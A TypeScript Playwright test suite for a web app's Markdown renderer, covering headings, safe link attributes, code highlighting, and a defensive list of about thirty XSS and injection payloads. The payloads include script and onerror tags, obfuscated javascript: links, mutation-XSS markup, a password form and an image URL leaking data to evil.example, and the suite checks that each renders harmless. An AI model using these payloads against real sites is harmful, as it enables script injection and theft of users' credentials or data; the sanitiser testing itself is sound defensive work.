import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';

import { launchBrowser, Person } from './support/browser.js';
import { startProcess, type ServerProcess } from './support/process.js';

/** What must do nothing, in any of the ways a text can try. */
const HOSTILE = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  'a <svg/onload=alert(1)> b',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<a href="javascript:alert(1)" onclick="alert(1)">x</a>',
  '<div style="background:url(https://evil.example/)">x</div>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<form action="https://evil.example/"><input name=password></form>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](java\tscript:alert(1))',
  '[x](data:text/html,<script>alert(1)</script>)',
  '[x](vbscript:x)',
  '[x](//evil.example)',
  '[x](/user/settings)',
  '[bank](https://bank.example@evil.example/)',
  '[x](https://e.example "\\" onmouseover=alert(1) x=\\"")',
  '![x](https://evil.example/?q=secret)',
  '![x](javascript:alert(1))',
  '![x](" onerror=alert(1) ")',
  '[![x](https://evil.example/a.png)](https://evil.example)',
  '<https://evil.example/" onmouseover="alert(1)>',
  '`</code><img src=x onerror=alert(1)>`',
  '```html\n<img src=x onerror=alert(1)>\n```',
  '```"><img/src=x/onerror=alert(1)>\nx\n```',
  '| <img src=x onerror=alert(1)> |\n|--|\n| <script>alert(1)</script> |',
  '# <img src=x onerror=alert(1)>',
  '[a]: javascript:alert(1)\n\n[a]',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '<!--><img src=x onerror=alert(1)>-->',
  '>'.repeat(5000),
];

describe('Markdown', () => {
  let server: ServerProcess;
  let browser: Browser;
  let person: Person;

  beforeAll(async () => {
    [server, browser] = await Promise.all([startProcess(), launchBrowser()]);
    person = await Person.guest(browser, server);
    await person.page.goto(`${server.url}/user/login`);
  });

  afterAll(async () => {
    await browser?.close();
    await server?.stop();
  });

  /** The text as a finished answer of the page. */
  async function shown(text: string): Promise<string> {
    // As a text, since vitest rewrites the imports of functions.
    await person.page.evaluate(`(async () => {
      const { showMarkdown } = await import('/js/markdown.js');
      document.querySelector('#answer')?.remove();
      const answer = document.createElement('div');
      answer.id = 'answer';
      document.querySelector('main').append(answer);
      await showMarkdown(answer, ${JSON.stringify(text)}, (key) => key);
    })()`);
    return person.page.locator('#answer').innerHTML();
  }

  it('becomes what it means', async () => {
    const html = await shown(
      '# Title\n\n**bold** *it* ~~no~~ `code`\nnext line\n\n- [x] one\n- two\n\n3. three',
    );
    expect(html).toContain('<h3>Title</h3>');
    expect(html).toContain('<strong>bold</strong> <em>it</em> <del>no</del> <code>code</code><br>next line');
    expect(html).toContain('☑ one');
    expect(html).toContain('<ol start="3">');
  });

  it('has headings that go below those of the page and skip none', async () => {
    await shown('#### a\n\n# b\n\n### c\n\n###### d\n\n## e');
    const levels = await person.page
      .locator('#answer')
      .locator('h1, h2, h3, h4, h5, h6')
      .evaluateAll((headings) => headings.map(({ tagName }) => tagName));
    expect(levels).toEqual(['H3', 'H3', 'H4', 'H5', 'H4']);
  });

  it('leads only to the web, in a tab that knows nothing of ours', async () => {
    await shown('[a](https://a.example/x) <http://b.example> ![c](https://c.example/c.png) <d@e.example>');
    const links = await person.page
      .locator('#answer a')
      .evaluateAll((links) =>
        links.map((link) => [
          link.getAttribute('href'),
          link.getAttribute('rel'),
          link.getAttribute('target'),
        ]),
      );
    const rel = 'noopener noreferrer nofollow ugc';
    expect(links).toEqual([
      ['https://a.example/x', rel, '_blank'],
      ['http://b.example/', rel, '_blank'],
      ['https://c.example/c.png', rel, '_blank'],
    ]);
  });

  it('colours code of a known language and offers to copy it', async () => {
    await shown('```js\nconst one = "<b>";\n```\n\n```nonsense\nplain\n```');
    await person.page.locator('#answer .hljs-keyword', { hasText: 'const' }).waitFor();
    expect(await person.page.locator('#answer pre').allTextContents()).toEqual([
      'const one = "<b>";\n',
      'plain\n',
    ]);
    expect(await person.page.locator('#answer [data-slot="copy-code"]').count()).toBe(2);
  });

  it.each(HOSTILE.map((text) => [text.slice(0, 60), text]))('lets %j do nothing', async (_name, text) => {
    const requests: string[] = [];
    const note = (request: { url(): string }) => requests.push(new URL(request.url()).origin);
    person.page.on('request', note);
    await shown(text);
    person.page.off('request', note);

    const found = await person.page.locator('#answer').evaluate((answer) => ({
      forbidden: [
        ...answer.querySelectorAll('script,img,svg,math,iframe,form,input,style,link,object,template'),
      ].length,
      attributes: [...answer.querySelectorAll('*')].flatMap((element) =>
        [...element.attributes].map(({ name }) => name),
      ),
      links: [...answer.querySelectorAll('a')].map(({ href }) => href),
    }));
    const known = ['class', 'data-slot', 'href', 'rel', 'start', 'tabindex', 'target', 'type'];
    expect(found.forbidden).toBe(0);
    expect(found.attributes.filter((name) => !known.includes(name))).toEqual([]);
    expect(found.links.filter((href) => !/^https:\/\/[^@]*$/.test(href))).toEqual([]);
    expect(requests.filter((origin) => origin !== server.url)).toEqual([]);
    expect(person.faults).toEqual([]);
  });
});
